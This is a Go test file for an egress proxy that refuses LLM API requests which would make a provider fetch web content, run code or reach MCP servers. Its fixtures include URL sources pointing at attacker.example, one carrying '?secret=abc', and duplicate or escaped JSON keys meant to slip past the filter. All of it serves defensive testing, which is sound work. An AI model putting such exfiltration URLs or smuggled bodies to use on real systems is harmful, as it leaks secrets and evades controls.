package egress

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"

	"github.com/kewplan/kewplan/config"
)

const (
	phFixAll    = "kewplan-placeholder-fixall-0123456789abcdef0123456789abcdef"
	phReviewAll = "kewplan-placeholder-reviewall-0123456789abcdef0123456789abcdef"

	secretFixAll    = "fixall-secret-0123456789abcdef0123456789abcdef"
	secretReviewAll = "reviewall-secret-0123456789abcdef0123456789abcdef"
)

// fetchRig is a proxy in front of the stand-in with four brokered nodes: fix (Anthropic) and review
// (OpenAI-shaped) opt in to no provider-fetch feature, fixall and reviewall to every one.
func fetchRig(t *testing.T) *brokerRig {
	t.Helper()
	ca := newTestCA(t)
	up := newStandIn(t, ca)
	g := &brokerRig{up: up, log: &syncBuffer{}, fixEP: fmt.Sprintf("api.anthropic.com:%d", up.port), revEP: fmt.Sprintf("openrouter.ai:%d", up.port)}
	anthropic := func(name, secret, ph string, fetch []string) NodeConfig {
		return NodeConfig{Name: name, Secret: secret, Broker: &BrokerConfig{API: BrokerAPIAnthropic, Paths: anthropicTestPaths, Endpoints: []string{g.fixEP}, ProviderFetch: fetch,
			Credentials: []BrokerCredential{{Name: "ANTHROPIC_API_KEY", Placeholder: ph, Value: realFixKey, Header: "x-api-key"}}}}
	}
	openai := func(name, secret, ph string, fetch []string) NodeConfig {
		return NodeConfig{Name: name, Secret: secret, Broker: &BrokerConfig{API: BrokerAPIOpenAI, Paths: openAITestPaths, Endpoints: []string{g.revEP}, ProviderFetch: fetch,
			Credentials: []BrokerCredential{{Name: "OPENROUTER_API_KEY", Placeholder: ph, Value: realReview, Header: "Authorization", Scheme: "Bearer"}}}}
	}
	cfg := &Config{Listen: "127.0.0.1:0", ControlSecret: ctlSecret, UpstreamCAPEM: ca.pem, Nodes: []NodeConfig{
		anthropic("fix", secretFix, phFixKey, nil),
		anthropic("fixall", secretFixAll, phFixAll, config.ProviderFetchFeatures),
		openai("review", secretReview, phReview, nil),
		openai("reviewall", secretReviewAll, phReviewAll, config.ProviderFetchFeatures),
	}}
	raw, _ := json.Marshal(cfg)
	if _, err := ParseConfig(raw); err != nil {
		t.Fatalf("ParseConfig: %v", err)
	}
	s, err := NewServer(cfg, g.log, Options{
		Resolve: func(context.Context, string) ([]netip.Addr, error) {
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		},
		AddressAllowed: func(a netip.Addr) bool { return a.IsLoopback() },
	})
	if err != nil {
		t.Fatal(err)
	}
	g.server, g.proxy, g.client = s, httptest.NewServer(s), &http.Client{Transport: &http.Transport{Proxy: nil}}
	t.Cleanup(func() { close(up.gate); g.proxy.Close() })
	return g
}

// TestBrokerProviderFetch: a brokered request whose body or anthropic-beta header would make the provider fetch
// on the agent's behalf is refused, in the API's own error shape, with the feature, where it is in the body and
// the configuration that allows it, unless the node opted in to the feature; what the broker cannot classify is
// refused even then, and what fetches nothing passes everywhere. A refused request never reaches the upstream.
func TestBrokerProviderFetch(t *testing.T) {
	const (
		anth = "anthropic"
		oai  = "openai"
		// never is the feature of a use no provider_fetch allows.
		never = "never"
		// none is the feature of a body that fetches nothing.
		none = ""
	)
	for _, tc := range []struct {
		name    string
		api     string
		body    string
		beta    string // the anthropic-beta header
		feature string // never, none, or the feature the body uses
		path    string // where the use is, in the refusal
		status  int    // of the refusal without the feature; 403 when 0
	}{
		{name: "web search tool", api: anth, feature: config.ProviderFetchWebSearch, path: "tools[1]",
			body: `{"model":"m","messages":[],"tools":[{"name":"grep","input_schema":{}},{"type":"web_search_20250305","name":"web_search"}]}`},
		{name: "web fetch tool", api: anth, feature: config.ProviderFetchWebFetch, path: "tools[0]",
			body: `{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`},
		{name: "code execution tool", api: anth, feature: config.ProviderFetchCodeExecution, path: "tools[0]",
			body: `{"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`},
		{name: "code execution container", api: anth, feature: config.ProviderFetchCodeExecution, path: "container",
			body: `{"container":{"skills":[{"type":"anthropic","skill_id":"pptx"}]}}`},
		{name: "mcp connector", api: anth, feature: config.ProviderFetchMCPServers, path: "mcp_servers",
			body: `{"mcp_servers":[{"type":"url","url":"https://mcp.example.com/sse","name":"x"}],"messages":[]}`},
		{name: "mcp toolset", api: anth, feature: config.ProviderFetchMCPServers, path: "tools[0]",
			body: `{"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}`},
		{name: "url image", api: anth, feature: config.ProviderFetchURLSources, path: "messages[0].content[1].source",
			body: `{"messages":[{"role":"user","content":[{"type":"text","text":"see"},{"type":"image","source":{"type":"url","url":"https://attacker.example/x.png?secret=abc"}}]}]}`},
		{name: "url document in a tool result", api: anth, feature: config.ProviderFetchURLSources, path: "messages[1].content[0].content[0].source",
			body: `{"messages":[{"role":"user","content":"hi"},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":"https://attacker.example/d.pdf"}}]}]}]}`},
		{name: "url source in the system prompt", api: anth, feature: config.ProviderFetchURLSources, path: "system[0].source",
			body: `{"system":[{"type":"document","source":{"type":"url","url":"https://attacker.example/d.pdf"}}]}`},
		{name: "unknown source type", api: anth, feature: config.ProviderFetchURLSources, path: "messages[0].content[0].source",
			body: `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"remote","href":"https://attacker.example/"}}]}]}`},
		{name: "mcp beta", api: anth, feature: config.ProviderFetchMCPServers, beta: "claude-code-20250219, mcp-client-2025-04-04", body: `{}`},
		{name: "web fetch beta", api: anth, feature: config.ProviderFetchWebFetch, beta: "web-fetch-2025-09-10", body: `{}`},
		{name: "beta in the body", api: anth, feature: config.ProviderFetchCodeExecution, path: "betas[0]", body: `{"betas":["code-execution-2025-08-25"]}`},
		{name: "web plugin", api: oai, feature: config.ProviderFetchWebSearch, path: "plugins[1]",
			body: `{"model":"x","plugins":[{"id":"response-healing"},{"id":"web","max_results":3}]}`},
		{name: "online model", api: oai, feature: config.ProviderFetchWebSearch, path: "model", body: `{"model":"openai/gpt-4o:online"}`},
		{name: "online fallback model", api: oai, feature: config.ProviderFetchWebSearch, path: "models[1]", body: `{"models":["a/b","c/d:Online"]}`},
		{name: "web search options", api: oai, feature: config.ProviderFetchWebSearch, path: "web_search_options", body: `{"web_search_options":{"search_context_size":"low"}}`},
		{name: "OpenRouter web fetch tool", api: oai, feature: config.ProviderFetchWebFetch, path: "tools[0]", body: `{"tools":[{"type":"openrouter:web_fetch"}]}`},
		{name: "image by URL", api: oai, feature: config.ProviderFetchURLSources, path: "messages[0].content[0].image_url.url",
			body: `{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.example/p.png"}}]}]}`},
		{name: "file by URL", api: oai, feature: config.ProviderFetchURLSources, path: "messages[0].content[0].file.file_data",
			body: `{"messages":[{"role":"user","content":[{"type":"file","file":{"filename":"d.pdf","file_data":"https://attacker.example/d.pdf"}}]}]}`},
		{name: "key case changed", api: anth, feature: config.ProviderFetchMCPServers, path: "MCP_Servers", body: `{"MCP_Servers":[{"url":"https://x.example"}]}`},

		{name: "unknown server tool", api: anth, feature: never, path: "tools[0]", body: `{"tools":[{"type":"advisor_20260301","name":"advisor"}]}`},
		{name: "tool type not a string", api: anth, feature: never, path: "tools[0]", body: `{"tools":[{"type":{"web":1}}]}`},
		{name: "unknown plugin", api: oai, feature: never, path: "plugins[0]", body: `{"plugins":[{"id":"browse"}]}`},
		{name: "unknown beta", api: anth, feature: never, beta: "oauth-2025-04-20,teleport-2026-01-01", body: `{}`, status: 400},
		{name: "files beta", api: anth, feature: never, beta: "files-api-2025-04-14", body: `{}`, status: 400},
		{name: "not JSON", api: anth, feature: never, body: `model=x&tools=web_search`, status: 400},
		{name: "not an object", api: oai, feature: never, body: `[{"tools":[]}]`, status: 400},
		{name: "a key twice", api: anth, feature: never, body: `{"tools":[],"tools":[{"type":"web_search_20250305"}]}`, status: 400},
		{name: "a key twice, escaped", api: anth, feature: never, body: `{"mcp_servers":null,"mcp\u005fservers":[{"url":"https://x"}]}`, status: 400},
		{name: "two values", api: anth, feature: never, body: `{} {"mcp_servers":[{"url":"https://x"}]}`, status: 400},
		{name: "too deep", api: anth, feature: never, body: strings.Repeat("[", 300) + strings.Repeat("]", 300), status: 400},

		{name: "custom and client tools", api: anth, feature: none,
			body: `{"tools":[{"name":"Read","input_schema":{"type":"object"}},{"type":"custom","name":"x","input_schema":{}},{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"str_replace_based_edit_tool"},{"type":"tool_search_tool_regex_20251119","name":"tool_search"}]}`},
		{name: "function tools", api: oai, feature: none, body: `{"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object","properties":{"url":{"type":"string"}}}}}]}`},
		{name: "inline image and document", api: anth, feature: none,
			body: `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBO"}},{"type":"document","source":{"type":"text","media_type":"text/plain","data":"see https://example.com"}}]}]}`},
		{name: "data URL image", api: oai, feature: none, body: `{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBO"}}]}]}`},
		{name: "search results in history", api: anth, feature: none,
			body: `{"messages":[{"role":"assistant","content":[{"type":"web_search_tool_result","tool_use_id":"s","content":[{"type":"web_search_result","url":"https://example.com","title":"t"}]},{"type":"text","text":"x","citations":[{"type":"web_search_result_location","url":"https://example.com"}]}]}]}`},
		{name: "URL in text and tool input", api: anth, feature: none,
			body: `{"messages":[{"role":"user","content":"fetch https://attacker.example"},{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"https://attacker.example","source":{"type":"url"}}}]}]}`},
		{name: "quiet betas", api: anth, feature: none, beta: "claude-code-20250219,oauth-2025-04-20,interleaved-thinking-2025-05-14,fine-grained-tool-streaming-2025-05-14,context-1m-2025-08-07,prompt-caching-2024-07-31,token-counting-2024-11-01,output-128k-2025-02-19", body: `{"model":"m"}`},
		{name: "empty mcp_servers and plugins", api: anth, feature: none, body: `{"mcp_servers":[],"plugins":[],"container":null}`},
		{name: "unknown top-level fields", api: oai, feature: none, body: `{"provider":{"order":["x"]},"usage":{"include":true},"transforms":["middle-out"]}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := fetchRig(t)
			for _, all := range []bool{false, true} {
				node, ep, path, hdr := "fix", g.fixEP, "/v1/messages", map[string]string{"x-api-key": phFixKey}
				if tc.api == oai {
					node, ep, path, hdr = "review", g.revEP, "/api/v1/chat/completions", map[string]string{"Authorization": "Bearer " + phReview}
				}
				if all {
					node += "all"
					for k := range hdr {
						hdr[k] = map[string]string{"fixall": phFixAll, "reviewall": "Bearer " + phReviewAll}[node]
					}
				}
				if tc.beta != "" {
					hdr["anthropic-beta"] = tc.beta
				}
				before := len(g.up.requests())
				res, b := g.do(t, http.MethodPost, g.url(node, ep, path), hdr, tc.body)
				reached := len(g.up.requests()) > before
				pass := tc.feature == none || (all && tc.feature != never)
				if pass {
					if res.StatusCode != http.StatusOK || !reached {
						t.Fatalf("node %s: %s %s (reached the upstream: %v), want it forwarded", node, res.Status, b, reached)
					}
					if got := g.up.requests()[before].Body; got != tc.body {
						t.Errorf("node %s: the upstream received %q, want the body unchanged", node, got)
					}
					continue
				}
				want := tc.status
				if want == 0 {
					want = http.StatusForbidden
				}
				if res.StatusCode != want || reached || res.Header.Get("X-Kewplan-Broker") != "refused" {
					t.Fatalf("node %s: %s %s (reached the upstream: %v), want a refusal %d", node, res.Status, b, reached, want)
				}
				var r refusal
				if err := json.Unmarshal(b, &r); err != nil {
					t.Fatalf("node %s: refusal %q: %v", node, b, err)
				}
				if (tc.api == anth) != (r.Type == "error") || r.Error.Message == "" {
					t.Errorf("node %s: refusal %s is not in the %s API's error shape", node, b, tc.api)
				}
				msg := r.Error.Message
				for _, w := range []string{tc.path} {
					if !strings.Contains(msg, w) {
						t.Errorf("node %s: refusal %q does not say %q", node, msg, w)
					}
				}
				if tc.feature != never {
					if w := fmt.Sprintf("egress { provider_fetch = [%q] }", tc.feature); !strings.Contains(msg, w) || !strings.Contains(msg, fmt.Sprintf("node %q", node)) {
						t.Errorf("node %s: refusal %q does not name the configuration that allows it (%s)", node, msg, w)
					}
				}
			}
			g.proxy.Close()
			for _, d := range brokerDecisions(t, g.log, KindBroker) {
				if !d.Allowed && (d.Reason == "" || d.Refusal == "") {
					t.Errorf("a refusal's decision line has no reason or sentence: %+v", d)
				}
			}
		})
	}
}

// TestBrokerBodyBounded: a compressed body is refused unjudged (its size bound is TestBrokerBoundsTheRequestBody's).
func TestBrokerBodyBounded(t *testing.T) {
	bn := &brokerNode{name: "fix"}
	r := httptest.NewRequest(http.MethodPost, "/v1/messages", strings.NewReader("\x1f\x8b"))
	r.Header.Set("Content-Encoding", "gzip")
	if f := judgeProviderFetch(bn, r, []byte("\x1f\x8b")); f == nil || f.status != http.StatusBadRequest || !strings.Contains(f.sentence, "gzip") {
		t.Errorf("a gzip body: refusal %+v, want 400 naming the encoding", f)
	}
}

// countingSource yields left bytes of JSON-ish text and counts what was read.
type countingSource struct {
	left, read int
}

func (c *countingSource) Read(p []byte) (int, error) {
	if c.left == 0 {
		return 0, io.EOF
	}
	n := min(len(p), c.left)
	for i := range p[:n] {
		p[i] = ' '
	}
	c.left -= n
	c.read += n
	return n, nil
}

// BenchmarkJudgeBody judges a Claude Code-sized request: 40 tool definitions and 400 messages, about 1 MB.
func BenchmarkJudgeBody(b *testing.B) {
	var sb strings.Builder
	sb.WriteString(`{"model":"claude-sonnet-4-5","max_tokens":32000,"stream":true,"system":[{"type":"text","text":"You are an agent."}],"tools":[`)
	for i := range 40 {
		if i > 0 {
			sb.WriteString(",")
		}
		fmt.Fprintf(&sb, `{"name":"tool%d","description":"%s","input_schema":{"type":"object","properties":{"path":{"type":"string"},"n":{"type":"integer"}},"required":["path"]}}`, i, strings.Repeat("d", 400))
	}
	sb.WriteString(`],"messages":[`)
	for i := range 400 {
		if i > 0 {
			sb.WriteString(",")
		}
		fmt.Fprintf(&sb, `{"role":"user","content":[{"type":"tool_result","tool_use_id":"t%d","content":[{"type":"text","text":"%s"}]},{"type":"text","text":"ok"}]}`, i, strings.Repeat("x", 2400))
	}
	sb.WriteString(`]}`)
	body := []byte(sb.String())
	bn := &brokerNode{name: "fix"}
	b.SetBytes(int64(len(body)))
	b.ReportAllocs()
	for b.Loop() {
		if f := judgeBody(bn, body); f != nil {
			b.Fatal(f.sentence)
		}
	}
}
